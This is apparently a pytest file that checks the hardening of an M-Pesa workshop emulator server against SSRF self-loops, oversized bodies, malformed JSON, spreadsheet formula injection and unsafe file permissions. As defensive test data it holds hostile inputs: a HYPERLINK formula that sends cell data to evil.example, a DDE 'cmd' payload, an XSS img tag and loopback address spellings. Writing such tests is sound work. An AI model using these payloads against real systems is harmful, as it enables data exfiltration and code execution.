"""A participant who tries to break the workshop server (issue 19, items 3, 4, 8, 9, 10): no
server that posts to itself, no port scanner, bounded memory whatever is sent, a 4xx with one
line for any bad request, credential files that are safe to open, a private folder."""

from __future__ import annotations

import csv
import io
import json
import logging
import os
import socket
import stat
import threading
import time

import httpx
import pytest

from mpesa_lab.listener import Listener
from mpesa_lab.workshop import RosterError, WorkshopServer
from mpesa_lab.workshop.limits import WindowCounter, WorkshopLimits

from .conftest import Participant


def _callback(cid: str, code: object = 0, desc: str = "ok", pad: int = 0) -> bytes:
    body = {
        "Body": {
            "stkCallback": {
                "MerchantRequestID": "m",
                "CheckoutRequestID": cid,
                "ResultCode": code,
                "ResultDesc": desc + "x" * pad,
            }
        }
    }
    return json.dumps(body).encode()


def _inbox(server: WorkshopServer, pid: str) -> str:
    return f"{server.url}/_workshop/inbox/{server.room.desk(pid).participant.inbox_token.reveal()}"


def _port(server: WorkshopServer) -> int:
    return int(server.url.rsplit(":", 1)[1])


def _hello(p: Participant, body: object, headers: dict[str, str] | None = None) -> httpx.Response:
    return p.http.post("/_workshop/relay/hello", json=body, headers=headers or p.basic)


def _no_tracebacks(caplog) -> None:
    assert not [r for r in caplog.records if r.exc_info], [r.getMessage() for r in caplog.records if r.exc_info]


# ---- item 3: no server that posts to itself, no port scanner -----------------------------------

SELF_HOSTS = [
    "127.0.0.1",
    "localhost",
    "127.1",
    "2130706433",
    "0x7f000001",
    "0177.0.0.1",
    "127.9.9.9",
    "0.0.0.0",
    "0",
    "[::1]",
    "[::ffff:127.0.0.1]",
    "[::]",
]


def test_a_direct_url_at_the_server_itself_is_refused_in_every_spelling(server, people):
    p = people["p01"]
    port = _port(server)
    path = _inbox(server, "p01").split(str(port), 1)[1]
    for host in SELF_HOSTS:
        url = f"http://{host}:{port}{path}"
        answer = _hello(p, {"direct_url": url, "health_url": url})
        assert answer.status_code == 200, answer.text
        assert answer.json()["delivery"] == "relay", (host, answer.json())
    assert server.room.desk("p01").mailbox.direct_url is None


def test_a_delivery_that_comes_back_to_an_inbox_never_loops(server, people):
    # Even if a direct URL leads back to the server (a port forward the rule cannot see), the
    # server's own delivery is refused at the inbox: one callback, a handful of posts, not 50,000.
    desk = server.room.desk("p01")
    desk.mailbox.direct_url = _inbox(server, "p01")
    answer = httpx.post(_inbox(server, "p01"), content=_callback("ws_CO_LOOP"), timeout=5)
    assert answer.status_code == 200
    time.sleep(1.5)
    counts = desk.mailbox.counts
    assert counts["received"] == 1, counts
    assert counts["direct_failures"] == 1 and desk.mailbox.direct_url is None, counts
    assert desk.progress.results["0"] == 1
    assert desk.mailbox.waiting == 1  # still kept: the relay carries it


class _RawPort:
    """A TCP port that answers every connection with bytes that are not HTTP."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(8)
        self.port = self.sock.getsockname()[1]
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            conn.sendall(b"SSH-2.0-OpenSSH_9.2\r\n")
            conn.close()

    def close(self) -> None:
        self.sock.close()


def test_a_failed_health_check_says_the_same_whatever_the_port(server, people, tmp_path):
    p = people["p01"]
    closed = socket.socket()
    closed.bind(("127.0.0.1", 0))
    closed_port = closed.getsockname()[1]
    closed.close()
    raw = _RawPort()
    listener = Listener(tmp_path / "l.sqlite", name="test-ws-health").start()
    try:
        reasons = set()
        for port, path in ((closed_port, "/health"), (raw.port, "/health"), (listener.port, "/nothing-here")):
            url = f"http://127.0.0.1:{port}{path}"
            answer = _hello(p, {"direct_url": url, "health_url": url})
            assert answer.json()["delivery"] == "relay"
            reasons.add(answer.json()["reason"])
        assert len(reasons) == 1, reasons
    finally:
        raw.close()
        listener.stop()


def test_health_checks_are_rate_limited_per_participant(tmp_path):
    limits = WorkshopLimits(hello_per_minute=3)
    srv = WorkshopServer(tmp_path / "room", participants=2, limits=limits, name="workshop-test-rate").start()
    listener = Listener(tmp_path / "l.sqlite", name="test-ws-rate").start()
    try:
        p, q = Participant(srv, "p01"), Participant(srv, "p02")
        offer = {
            "direct_url": listener.callback_url.replace("localhost", "127.0.0.1"),
            "health_url": f"{listener.url}/{listener.path_token}/health".replace("localhost", "127.0.0.1"),
        }
        ways = [_hello(p, offer).json() for _ in range(5)]
        assert [w["delivery"] for w in ways] == ["direct"] * 3 + ["relay"] * 2, ways
        assert "a minute" in ways[-1]["reason"]
        assert _hello(q, offer).json()["delivery"] == "direct"  # another participant has their own budget
        p.close()
        q.close()
    finally:
        listener.stop()
        srv.stop()


def test_a_direct_url_must_point_at_the_participants_own_address(server, people):
    p = people["p01"]
    for url in ("http://10.255.255.1:8080/cb", "http://192.0.2.1/cb", "http://[2001:db8::1]:80/cb"):
        started = time.monotonic()
        answer = _hello(p, {"direct_url": url, "health_url": url}).json()
        assert answer["delivery"] == "relay" and "your own address" in answer["reason"], answer
        assert time.monotonic() - started < 1.5  # refused before any connection is tried
    # the same offer through a proxy: the server cannot see the participant's address
    ok = "http://127.0.0.1:9/cb"
    answer = _hello(p, {"direct_url": ok, "health_url": ok}, headers={**p.basic, "X-Forwarded-For": "10.0.0.7"})
    assert "proxy" in answer.json()["reason"]
    # health elsewhere than the listener: refused (it would be a free probe of another port)
    answer = _hello(p, {"direct_url": "http://127.0.0.1:9/cb", "health_url": "http://127.0.0.1:22/"}).json()
    assert answer["delivery"] == "relay" and "same host and port" in answer["reason"]


def test_the_opt_in_networks_are_read_from_the_environment(tmp_path):
    limits = WorkshopLimits.from_env(
        {"MPESA_LAB_WORKSHOP_DIRECT_NETWORKS": "10.0.0.0/8", "MPESA_LAB_WORKSHOP_HELLO_PER_MINUTE": "4"}
    )
    assert limits.direct_networks == "10.0.0.0/8" and limits.hello_per_minute == 4
    for bad in ("lots", "0", "-5", "inf", "nan"):  # inf overflowed int() into a traceback
        with pytest.raises(RosterError, match="MPESA_LAB_WORKSHOP_MAILBOX_BYTES=.*whole number above 0"):
            WorkshopLimits.from_env({"MPESA_LAB_WORKSHOP_MAILBOX_BYTES": bad})
    with pytest.raises(RosterError, match="not a network like 10.0.0.0/8"):
        WorkshopServer(tmp_path / "room", limits=WorkshopLimits(direct_networks="10.0.0.0/33"))


# ---- item 4: memory -----------------------------------------------------------------------------


def _raw_post(url: str, head_extra: str, body: bytes, read_timeout: float = 5.0) -> bytes:
    host, port = url.split("//", 1)[1].split("/", 1)[0].split(":")
    path = "/" + url.split("//", 1)[1].split("/", 1)[1]
    with socket.create_connection((host, int(port)), timeout=read_timeout) as sock:
        sock.sendall(
            f"POST {path} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n{head_extra}\r\n".encode() + body
        )
        answer = b""
        while not answer.endswith(b"}"):
            chunk = sock.recv(4096)
            if not chunk:
                break
            answer += chunk
        return answer


@pytest.mark.parametrize("route", ["/_workshop/relay/hello", "/_workshop/progress", "/_workshop/relay/ack"])
def test_a_huge_body_is_refused_from_its_content_length_before_it_is_read(server, people, route):
    p = people["p01"]
    started = time.monotonic()
    # 1 GiB announced, 10 bytes sent: the answer comes at once, nothing waits for the rest
    answer = _raw_post(
        server.url + route,
        f"Authorization: {p.basic['Authorization']}\r\nContent-Length: 1073741824\r\n",
        b'{"a": "bbb',
    )
    assert answer.startswith(b"HTTP/1.1 413"), answer[:200]
    assert b"at most 16384 bytes" in answer
    assert time.monotonic() - started < 3


def test_a_huge_chunked_body_is_cut_off_at_the_cap(server, people):
    p = people["p01"]

    def chunks():
        for _ in range(64):
            yield b" " * (1024 * 1024)

    answer = p.http.post("/_workshop/progress", content=chunks(), headers=p.basic)
    assert answer.status_code == 413 and "at most" in answer.json()["errorMessage"]
    answer = httpx.post(_inbox(server, "p01"), content=chunks(), timeout=10)
    assert answer.status_code == 413


def test_mailboxes_have_a_byte_budget_per_participant_and_per_room(tmp_path):
    limits = WorkshopLimits(mailbox_bytes=1024 * 1024, room_mailbox_bytes=int(1.5 * 1024 * 1024))
    srv = WorkshopServer(tmp_path / "room", participants=2, limits=limits, name="workshop-test-budget").start()
    try:
        letter = _callback("ws_CO_BIG", pad=60_000)
        kept = {"p01": 0, "p02": 0}
        with httpx.Client(timeout=10) as http:
            for pid in kept:
                for _ in range(40):
                    answer = http.post(_inbox(srv, pid), content=letter)
                    if answer.status_code != 200:
                        assert answer.status_code == 503 and "full" in answer.json()["ResultDesc"]
                        break
                    kept[pid] += 1
        assert 14 <= kept["p01"] <= 17, kept  # 1 MiB of 60 kB letters
        assert 6 <= kept["p02"] <= 9, kept  # what the room has left
        assert srv.room.mailbox_budget.held <= limits.room_mailbox_bytes
    finally:
        srv.stop()


def test_distinct_codes_are_capped_and_the_page_data_stays_small(server):
    with httpx.Client(timeout=10) as http:
        for n in range(3000):
            # 3,000 posts outrun the inbox's own rate limit (200/s after a burst of 2,000) on a
            # fast machine: wait as the limit asks, as a real sender would, and send again.
            for _ in range(100):
                answer = http.post(_inbox(server, "p01"), content=_callback(f"c{n}", code=f"X{n:05d}" * 8))
                if answer.status_code != 429:
                    break
                time.sleep(0.05)
            assert answer.status_code == 200, answer.text
    desk = server.room.desk("p01")
    results = desk.progress.results.totals()
    assert len(results) <= server.limits.codes_per_participant + 1 and results["other"] >= 2900
    assert sum(results.values()) == 3000
    room = httpx.get(
        f"{server.url}/_workshop/api/room", headers={"Authorization": f"Bearer {server.facilitator_token}"}
    )
    assert len(room.content) < 60_000, len(room.content)
    assert len(desk.progress.last_error["code"]) <= 40


def test_counters_age_out():
    counter = WindowCounter(window=0.3, codes=2)
    counter.add("0")
    counter.add("1032")
    counter.add("1037")
    assert counter.totals() == {"0": 1, "1032": 1, "other": 1}
    time.sleep(0.4)
    assert counter.totals() == {}
    counter.add("1037")
    assert counter.totals() == {"1037": 1}


# ---- item 8: a 4xx with one line, never a 500 -------------------------------------------------------

DEEP = b"[" * 100_000 + b"]" * 100_000
BAD_BODIES = [
    DEEP,
    b'{"a":' * 50_000 + b"1" + b"}" * 50_000,
    b'{"name": {"x": 1}}',
    b'{"name": ["a"]}',
    b'{"name": 12}',
    b'{"kind": ["busy"]}',
    b'{"kind": {"a": 1}}',
    b'{"exercise": {"a": 1}}',
    b'{"ids": [[1]]}',
    b'{"ids": {"a": 1}}',
    b'{"direct_url": {"a": 1}, "health_url": [1]}',
    b'{"direct_url": 5, "health_url": 5}',
    b"\xff\xfe",
    b'"just a string"',
    b"NaN",
    b"1e999999",
    b'{"name": "' + b"\\ud800" + b'"}',
    b'{"name": "' + b"a" * 20_000 + b'"}',
]


def test_bad_bodies_get_a_4xx_with_one_line_never_a_500(server, people, caplog):
    p = people["p01"]
    facilitator = {"Authorization": f"Bearer {server.facilitator_token}"}
    routes = [
        ("/_workshop/relay/hello", p.basic),
        ("/_workshop/relay/ack", p.basic),
        ("/_workshop/progress", p.basic),
        ("/_workshop/api/faults", facilitator),
        ("/_workshop/api/participants", facilitator),
    ]
    before = len(server.room.desks)
    with caplog.at_level(logging.WARNING):
        for route, auth in routes:
            for body in BAD_BODIES:
                answer = p.http.post(route, content=body, headers={**auth, "Content-Type": "application/json"})
                if answer.status_code == 200:  # hello ignores a bad offer (relay) and is still fine
                    assert route == "/_workshop/relay/hello" and answer.json()["delivery"] == "relay"
                    continue
                assert 400 <= answer.status_code < 500, (route, body[:40], answer.status_code, answer.text)
                message = answer.json()["errorMessage"]
                assert "\n" not in message and len(message) < 300, message
    _no_tracebacks(caplog)
    assert len(server.room.desks) == before  # no participant was made of a bad name


# ---- item 9: files that are safe to open ------------------------------------------------------------


def test_credentials_csv_and_cards_are_safe_with_hostile_names(tmp_path):
    names = [
        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        "+1+1",
        "-2+3",
        "@SUM(A1)",
        "\tTab",
        '<img src=x onerror="alert(1)">',
    ]
    srv = WorkshopServer(tmp_path / "room", participants=len(names), names=names, name="workshop-test-csv").start()
    try:
        facilitator = {"Authorization": f"Bearer {srv.facilitator_token}"}
        answer = httpx.post(
            f"{srv.url}/_workshop/api/participants", json={"name": "=cmd|' /C calc'!A0"}, headers=facilitator
        )
        assert answer.status_code == 200
        rows = list(csv.reader(io.StringIO(srv.files["csv"].read_text())))
        for row in rows[1:]:
            for cell in row:
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
        assert rows[1][1] == "'" + names[0]
        cards = srv.files["cards"].read_text()
        assert "<img" not in cards and "&lt;img src=x" in cards
    finally:
        srv.stop()


# ---- item 10: the folder is the owner's only ---------------------------------------------------------


def test_the_workshop_folder_is_0700_and_an_old_0755_one_is_fixed(tmp_path):
    folder = tmp_path / "room"
    srv = WorkshopServer(folder, participants=1, name="workshop-test-mode").start()
    srv.stop()
    assert stat.S_IMODE(os.stat(folder).st_mode) == 0o700
    os.chmod(folder, 0o755)  # as an older version left it
    srv = WorkshopServer(folder, participants=1, name="workshop-test-mode2")
    assert stat.S_IMODE(os.stat(folder).st_mode) == 0o700
    srv.room.close()


# ---- issue 18 item 12: the page's last error clears ------------------------------------------------


def test_the_last_error_clears_when_the_next_push_succeeds(server, people):
    p = people["p01"]

    def last_error():
        return server.summary()["participants"][0]["last_error"]

    def eventually(condition) -> None:  # the server notes progress just after it answers
        deadline = time.monotonic() + 5
        while not condition():
            assert time.monotonic() < deadline, last_error()
            time.sleep(0.01)

    refused = p.push(phone="12345")
    assert refused.status_code == 400
    eventually(lambda: last_error() is not None and last_error()["where"] == "push")
    assert p.push().status_code == 200
    eventually(lambda: last_error() is None)


# ---- the Scope: no outbound request a participant can aim (the push's CallBackURL) ------------------


def test_a_push_cannot_aim_its_callbacks_at_another_machine(server, people):
    p = people["p01"]
    for url in ("http://10.255.255.1:22/cb", "https://192.0.2.7/cb", "http://[2001:db8::5]:8080/x"):
        answer = p.push(CallBackURL=url)
        assert answer.status_code == 400, answer.text
        assert (
            "Invalid CallBackURL" in answer.json()["errorMessage"]
            and "your own machine" in answer.json()["errorMessage"]
        )
    assert not server.room.desk("p01").state.transactions  # refused before the emulator saw it
    # the inbox (any spelling of the server) and the participant's own machine are fine
    inbox = _inbox(server, "p01")
    for phone, url in (
        ("254708000101", inbox),
        ("254708000102", inbox.replace("127.0.0.1", "localhost")),
        ("254708000103", "http://127.0.0.1:9/callback"),
    ):
        answer = p.push(phone=phone, CallBackURL=url)
        assert answer.status_code == 200, answer.text


def test_the_rooms_outcome_counts_age_out(tmp_path):
    srv = WorkshopServer(
        tmp_path / "room",
        participants=1,
        limits=WorkshopLimits(counter_window_seconds=0.5),
        name="workshop-test-window",
    ).start()
    try:
        assert httpx.post(_inbox(srv, "p01"), content=_callback("ws_CO_OLD", code=1032)).status_code == 200
        assert srv.summary()["participants"][0]["results"] == {"1032": 1}
        time.sleep(0.7)
        room = srv.summary()
        assert room["participants"][0]["results"] == {} and room["results"] == [] and room["errors"] == []
    finally:
        srv.stop()


def test_inboxes_take_callbacks_at_a_bounded_rate_per_participant_and_per_room(tmp_path):
    limits = WorkshopLimits(inbox_per_second=0.01, inbox_burst=3, room_inbox_per_second=0.01, room_inbox_burst=5)
    srv = WorkshopServer(tmp_path / "room", participants=2, limits=limits, name="workshop-test-inbox-rate").start()
    try:
        with httpx.Client(timeout=10) as http:
            first = [http.post(_inbox(srv, "p01"), content=_callback(f"a{n}")).status_code for n in range(4)]
            second = [http.post(_inbox(srv, "p02"), content=_callback(f"b{n}")) for n in range(3)]
        assert first == [200, 200, 200, 429] and [r.status_code for r in second] == [200, 200, 429], (first, second)
        assert "for the room" in second[2].json()["ResultDesc"]  # p02 had tokens left; the room had none
    finally:
        srv.stop()


def test_a_token_loop_keeps_a_bounded_number_of_live_tokens(server, people):
    p = people["p01"]
    tokens = []
    for _ in range(120):
        answer = p.http.get("/oauth/v1/generate", params={"grant_type": "client_credentials"}, headers=p.basic)
        tokens.append(answer.json()["access_token"])
    desk = server.room.desk("p01")
    most = server.limits.tokens_per_participant
    assert len(desk.state.tokens) <= most + 1 and len(server.room._tokens) <= 3 * most  # p01, p02's own
    newest = p.http.post("/mpesa/stkpushquery/v1/query", json={}, headers={"Authorization": f"Bearer {tokens[-1]}"})
    oldest = p.http.post("/mpesa/stkpushquery/v1/query", json={}, headers={"Authorization": f"Bearer {tokens[0]}"})
    assert newest.json().get("errorCode") != "404.001.03"
    assert oldest.status_code == 404 and oldest.json()["errorCode"] == "404.001.03"


def test_scripted_results_and_lab_bodies_are_bounded_per_participant(server, people):
    p = people["p01"]
    answers = [
        p.http.post("/_lab/next-result", json={"code": 1032, "result_desc": "x" * 1000}, headers=p.bearer)
        for _ in range(server.limits.queued_results + 3)
    ]
    assert [a.status_code for a in answers].count(200) == server.limits.queued_results, [a.status_code for a in answers]
    assert answers[-1].status_code == 429 and "already waiting" in answers[-1].json()["errorMessage"]
    big = p.http.post("/_lab/next-result", json={"code": 0, "result_desc": "y" * 100_000}, headers=p.bearer)
    assert big.status_code == 413
    assert len(server.room.desk("p01").state.instructions) == server.limits.queued_results
